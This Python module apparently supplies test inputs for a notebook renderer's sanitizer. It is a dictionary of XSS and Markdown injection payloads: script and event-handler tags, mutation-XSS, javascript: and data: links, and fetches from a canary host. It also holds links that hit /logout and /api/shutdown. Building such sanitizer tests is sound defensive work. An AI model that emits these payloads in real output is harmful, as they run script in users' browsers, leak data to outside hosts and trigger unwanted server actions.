"""Texts that a model could write to make a notebook act: known tricks, one each.

In each, ``ran(N)`` is the script that must not run, and ``SITE`` the server that must
not be asked; :func:`injection` puts a number and an address there.
"""

from __future__ import annotations

__all__ = ["INJECTIONS", "injection"]


def injection(number: int, site: str) -> str:
    """Return the text of `number` with its marker and the address of the canary."""
    text = list(INJECTIONS.values())[number]
    return text.replace("ran(N)", f"ran({number})").replace("SITE", f"{site}/{number}")


INJECTIONS = {
    # HTML
    "script": "<script>ran(N)</script>",
    "script in mixed case": "<ScRiPt>ran(N)</sCrIpT>",
    "script from elsewhere": "<script src=SITE></script>",
    "script without an end": "<script>ran(N)",
    "script with a slash": "<script/x>ran(N)</script>",
    "script after nested tags": "<scr<script>ipt>ran(N)</scr</script>ipt>",
    "module": '<script type="module">ran(N)</script>',
    "image error": "<img src=x onerror=ran(N)>",
    "image error in quotes": "<IMG SRC=\"x\" OnErRoR='ran(N)'>",
    "image with slashes": "<img/src=x/onerror=ran(N)>",
    "image over lines": "<img\nsrc=x\nonerror\n=\nran(N)\n>",
    "image without an end": 'text <img src=x onerror="ran(N)" ',
    "image of the canary": "<img src=SITE>",
    "image set": '<img srcset="SITE 1x">',
    "picture": "<picture><source srcset=SITE><img></picture>",
    "svg load": "<svg onload=ran(N)>",
    "svg script": "<svg><script>ran(N)</script></svg>",
    "svg animate": "<svg><animate onbegin=ran(N) attributeName=x dur=1s></svg>",
    "svg image": "<svg><image href=SITE /></svg>",
    "svg foreign object": (
        "<svg><foreignObject><img src=x onerror=ran(N)></foreignObject></svg>"
    ),
    "math": '<math><mtext><img src=x onerror="ran(N)"></mtext></math>',
    "math style mutation": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=ran(N)&gt;">'
    ),
    "template mutation": "<template><img src=x onerror=ran(N)></template><p>",
    "noscript mutation": (
        '<noscript><p title="</noscript><img src=x onerror=ran(N)>"></noscript>'
    ),
    "textarea mutation": (
        "<textarea><script>ran(N)</script></textarea><img src=x onerror=ran(N)>"
    ),
    "style": "<style>@import url(SITE);</style>",
    "style attribute": '<div style="background:url(SITE)">x</div>',
    "link": "<link rel=stylesheet href=SITE>",
    "iframe": "<iframe src=SITE></iframe>",
    "iframe script": '<iframe src="javascript:parent.ran(N)"></iframe>',
    "iframe page": '<iframe srcdoc="<script>parent.ran(N)</script>"></iframe>',
    "object": "<object data=SITE></object>",
    "embed": "<embed src=SITE>",
    "video": "<video src=SITE autoplay onerror=ran(N)></video>",
    "audio": "<audio autoplay src=x onerror=ran(N)>",
    "refresh": '<meta http-equiv="refresh" content="0;url=SITE">',
    "base": "<base href=SITE>\n\n[relative](x)",
    "form": "<form action=SITE><input type=submit autofocus onfocus=ran(N)></form>",
    "form action": '<button formaction="javascript:ran(N)" form=f>x</button>',
    "focus": "<input onfocus=ran(N) autofocus>",
    "details": "<details open ontoggle=ran(N)>x</details>",
    "marquee": "<marquee onstart=ran(N)>x</marquee>",
    "custom element": "<x-y onfocus=ran(N) tabindex=1 autofocus>x</x-y>",
    "comment": "<!-- --!><img src=x onerror=ran(N)> -->",
    "comment without an end": "<!--><img src=x onerror=ran(N)>",
    "cdata": "<![CDATA[><img src=x onerror=ran(N)>]]>",
    "processing instruction": "<?x ><img src=x onerror=ran(N)>?>",
    "closing tags": "</p></div></body><img src=x onerror=ran(N)>",
    # In Markdown
    "in a heading": "# <img src=x onerror=ran(N)>",
    "in an underlined heading": "<img src=x onerror=ran(N)>\n===",
    "in a table": "| a | b |\n|---|---|\n| <img src=x onerror=ran(N)> | b |",
    "in a table's head": "| <img src=x onerror=ran(N)> |\n|---|\n| b |",
    "in a list": "- a\n  - <img src=x onerror=ran(N)>",
    "in a task": "- [ ] <img src=x onerror=ran(N)>",
    "in a quotation": "> <img src=x onerror=ran(N)>",
    "in emphasis": "**<img src=x onerror=ran(N)>**",
    "in a link": "[<img src=x onerror=ran(N)>](https://example.org)",
    "in a link's title": '[x](https://example.org "<img src=x onerror=ran(N)>")',
    "out of a link's title": "[x](https://example.org '\"onmouseover=\"ran(N)')",
    "out of an image's name": '![" onerror="ran(N)](x)',
    "after a line break": "text<br><img src=x onerror=ran(N)>",
    "escaped twice": "\\\\<img src=x onerror=ran(N)>",
    # Code that is none
    "after a closed fence": "```\nx\n```\n<img src=x onerror=ran(N)>",
    "in a fence of a list that has ended": "- ```\n<img src=x onerror=ran(N)>\n```",
    "in a fence of a task": (
        "- [ ] ```\n  x\n  ```\n\n  <img src=x onerror=ran(N)>\n  ```"
    ),
    "fence with mixed marks": "```\n```~\n<img src=x onerror=ran(N)>\n```",
    "fence in a paragraph": "text\n    ~~~\n    <img src=x onerror=ran(N)>\n    ~~~",
    "fence after a number": "text\n2. ~~~\n   <img src=x onerror=ran(N)>\n   ~~~",
    "fence after a lonely tag": "<br>\n```\n<img src=x onerror=ran(N)>\n```",
    "fence in a definition's title": (
        '[a]: /x "\n\n```\n"\n<img src=x onerror=ran(N)>\n```'
    ),
    "fence in a footnote's title": (
        '[^1]: /x "\n\n```\n"\n<img src=x onerror=ran(N)>\n```'
    ),
    "fence in an escaped title": (
        '[a]: /x "\\"\n\n```\n"\n<img src=x onerror=ran(N)>\n```'
    ),
    "fence in a formula": "\\begin{x}\n```\n\\end{x}\n<img src=x onerror=ran(N)>\n```",
    "code in a formula": "\\\\( `\\\\) <img src=x onerror=ran(N)> `",
    "code over lines in a formula": "$a `b\n $ <img src=x onerror=ran(N)> c`",
    "code in a link": "[a](x`)<img src=x onerror=ran(N)>`",
    "code in a lazy line": "> a ` b\n`<img src=x onerror=ran(N)>`",
    "language of a fence": '```html"><img/src=x/onerror=ran(N)>\nx\n```',
    "formula in a fence's language": (
        '```$"onmouseover="ran(N)"$ \\begin{x}"onmouseover=ran(N)\\end{x}\nx\n```'
    ),
    "mermaid": (
        '```mermaid\ngraph TD\nA["<img src=x onerror=ran(N)>"]\n'
        'click A "javascript:ran(N)"\n```'
    ),
    "mermaid style": (
        '```mermaid\n%%{init: {"themeCSS": "@import url(SITE)"}}%%\n'
        "graph TD\nA-->B\n```"
    ),
    # Formulas
    "formula out of a title": (
        '[x](https://example.org \'$" onmouseover="ran(N)" x="$\')'
    ),
    "formula with a tag": "$$<img src=x onerror=ran(N)>$$",
    "formula with an address": "$\\href{javascript:ran(N)}{x}$",
    "formula with a style": "$\\style{background:url(SITE)}{x} \\class{x}{y}$",
    "formula with required HTML": "$$\\require{html}\\href{javascript:ran(N)}{y}$$",
    # Links to this host, where an address may act: log out, stop, delete
    "link by a path": "[x](/logout)",
    "link by a path with a title": '[x](/logout "Log out")',
    "link by a path in angle brackets": "[x](</logout>)",
    "link by a path on the next line": "[x](\n/logout)",
    "link by a path with an entity": "[x](&#47;logout) [y](&sol;logout)",
    "link by a path behind a backslash": "[x](\\/logout)",
    "link by a path beside": "[x](logout) and [y](./logout)",
    "link by a path above": "[x](../../logout)",
    "link by a query": "[x](?reset)",
    "link to the same page": "[x]()",
    "image of the same page": "![x]()",
    "link to a host by its name alone": "[x](//logout)",
    "link to a host behind a backslash": "[x](/\\logout) [y](\\\\\\\\logout)",
    "link with one slash": "[x](http:/logout) [y](https:/logout)",
    "link without a slash": "[x](http:logout) [y](HTTPS:logout)",
    "link to this machine": "[x](http://localhost:8888/logout)",
    "link to this machine by number": "[x](http://127.0.0.1:8888/logout)",
    "link to this machine in version 6": "[x](http://[::1]:8888/logout)",
    "link to this machine with a user": "[x](http://a@localhost:8888/logout)",
    "link to this machine in hexadecimal": "[x](http://%6cocalhost:8888/logout)",
    "link by a path in a table": "| a |\n|---|\n| [x](/logout) |",
    "link by a path in a heading": "# [x](/logout)",
    "link by a path in a list": "- [ ] [x](/logout)",
    "link by a path in a quotation": "> > [x](/logout)",
    "link by a path in emphasis": "**[*x*](/logout)**",
    "definition by a path": "[x][r] [r]\n\n[r]: /logout",
    "definition by a path with a title": "[x]\n\n[x]: <../logout> 'y'",
    "footnote by a path": "[^1]\n\n[^1]: /logout",
    "image by a path": "![x](/api/shutdown)",
    "image by a path in a link": "[![x](/api/shutdown)](/logout)",
    "image by a definition of a path": "![x][r]\n\n[r]: /logout",
    "tag with a path": '<a href="/logout" ping="/logout">x</a>',
    "form with a path": "<form action=/api/shutdown method=post><button>x</form>",
    "svg with a path": '<svg><a xlink:href="/logout"><text>x</text></a></svg>',
    # Addresses
    "link to a script": "[x](javascript:ran(N))",
    "link in mixed case": "[x](JaVaScRiPt:ran(N))",
    "link with entities": "[x](&#106;avascript&colon;ran(N))",
    "link with long entities": "[x](&#x000006A;avascript:ran(N))",
    "link with a tab": "[x](java&Tab;script:ran(N))",
    "link with a line end": "[x](java&NewLine;script:ran(N))",
    "link with a leading mark": "[x](&#1;javascript:ran(N))",
    "link with a backslash": "[x](javascript\\:ran(N))",
    "link in angle brackets": "[x](<javascript:ran(N)>)",
    "link on the next line": "[x](\njavascript:ran(N))",
    "link to VBScript": "[x](vbscript:ran(N))",
    "link to data": "[x](data:text/html;base64,PHNjcmlwdD50b3AucmFuKE4pPC9zY3JpcHQ+)",
    "definition": "[x][r]\n\n[r]: javascript:ran(N)",
    "definition on two lines": "[x][r]\n\n[r]:\n  <javascript:ran(N)> 'y'",
    "definition in a lazy line": "> [x]\n\n> [x]:\njavascript:ran(N)",
    "footnote": "[^1]\n\n[^1]: javascript:ran(N)",
    "autolink": "<javascript:ran(N)>",
    "autolink with attributes": "<https:/onmouseover=ran(N)/x>",
    "image of a script": "![x](javascript:ran(N))",
    "remote image": "![x](SITE)",
    "remote image by definition": "![x][r]\n\n[r]: SITE",
    "two marks before an image": "!![x](SITE)",
    "image without a name": "![](SITE)",
    "image in a link": "[![x](SITE)](https://example.org)",
    "image of an svg": (
        "![x](data:image/svg+xml,<svg/onload=ran(N)><image/href='SITE'/></svg>)"
    ),
}
